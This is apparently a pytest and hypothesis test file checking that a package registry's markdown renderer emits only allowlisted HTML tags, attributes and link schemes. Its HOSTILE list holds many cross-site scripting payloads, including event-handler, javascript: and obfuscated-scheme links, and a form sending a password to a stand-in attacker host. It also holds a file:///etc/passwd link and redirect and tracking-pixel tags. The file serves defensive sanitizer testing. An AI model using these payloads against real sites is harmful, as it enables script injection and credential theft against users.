"""Overviews are somebody else's: whatever stands in them does nothing but show."""

import re
from html.parser import HTMLParser
from typing import Final

import pytest
from hypothesis import given
from hypothesis import strategies as st

from registry.web.markdown import MAX_SOURCE, render

ALLOWED: Final = {
    "a": {"href", "title", "rel"},
    "ol": {"start"},
    **{
        tag: set()
        for tag in [
            "blockquote",
            "br",
            "code",
            "del",
            "em",
            "h2",
            "h3",
            "h4",
            "h5",
            "h6",
            "hr",
            "li",
            "p",
            "pre",
            "s",
            "span",
            "strong",
            "table",
            "tbody",
            "td",
            "th",
            "thead",
            "tr",
            "ul",
        ]
    },
}

HOSTILE: Final = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "<body onload=alert(1)>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></math>",
    "<style>*{display:none}</style>",
    '<p style="position:fixed">x</p>',
    "<form action=//evil.example><input name=password></form>",
    "<base href=//evil.example>",
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](https://evil.example/pixel.png)",
    '![x"onerror="alert(1)](https://evil.example/p.png)',
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](https://a.example/"onmouseover="alert(1))',
    "[x]: javascript:alert(1)\n\n[x]",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "```html\n<script>alert(1)</script>\n```",
    '```"onmouseover="alert(1)\nx\n```',
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| 1 | 2 |",
    "# <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202egnp.exe\u202c",
    "a\u2066b\u2069c",
    "a\x00b\x1b[31m",
]


class Seen(HTMLParser):
    """The tags and attributes that a browser would find."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


def check(source: str) -> Seen:
    seen = Seen()
    seen.feed(str(render(source)))
    for tag, attributes in seen.found:
        assert tag in ALLOWED, tag
        assert set(attributes) <= ALLOWED[tag], attributes
        href = attributes.get("href")
        scheme = re.match("([a-zA-Z][a-zA-Z0-9+.-]*):", href or "")
        assert scheme is None or scheme[1] in ("http", "https", "mailto"), href
        if tag == "a":
            assert attributes["rel"] == "nofollow noopener noreferrer"
    return seen


@pytest.mark.parametrize("source", HOSTILE)
def test_hostile_markdown_is_inert(source: str) -> None:
    check(source)
    check(f"text {source} text\n\n* {source}\n\n> {source}")


@given(st.text(max_size=200))
def test_any_text_is_inert(source: str) -> None:
    check(source)


@given(
    st.lists(
        st.sampled_from(["<", ">", "[", "](", ")", "`", "*", "!", "javascript:", '"', "'", "\n", "&#x6a;"])
    )
)
def test_any_markup_is_inert(parts: list[str]) -> None:
    check("".join(parts))


@pytest.mark.parametrize("character", ["\u202e", "\u2066", "\u200f", "\x1b", "\x00"])
def test_what_reorders_or_hides_text_is_shown(character: str) -> None:
    assert character not in str(render(f"a{character}b"))
    assert "\N{REPLACEMENT CHARACTER}" in str(render(f"a{character}b"))


def test_markdown_is_rendered() -> None:
    seen = check("# Title\n\n**bold** ~~gone~~ [link](https://a.example)\n\n| a |\n|---|\n| 1 |\n\n1. one\n")
    assert [tag for tag, _ in seen.found if tag in ("h1", "h2", "strong", "s", "a", "td", "ol")] == (
        ["h2", "strong", "s", "a", "td", "ol"]
    )


def test_image_is_a_link() -> None:
    seen = check("![a cat](https://a.example/cat.png)")
    assert ("a", "https://a.example/cat.png") in [(tag, each.get("href")) for tag, each in seen.found]
    assert seen.text.strip() == "a cat"


@pytest.mark.parametrize(
    "source", [">" * 10**5, "[" * 10**5, "* " * 10**5, "a" * 10**6, "`" * 10**5, "<b " * 10**5]
)
def test_size_is_bounded(source: str) -> None:
    assert len(render(source)) < 20 * MAX_SOURCE
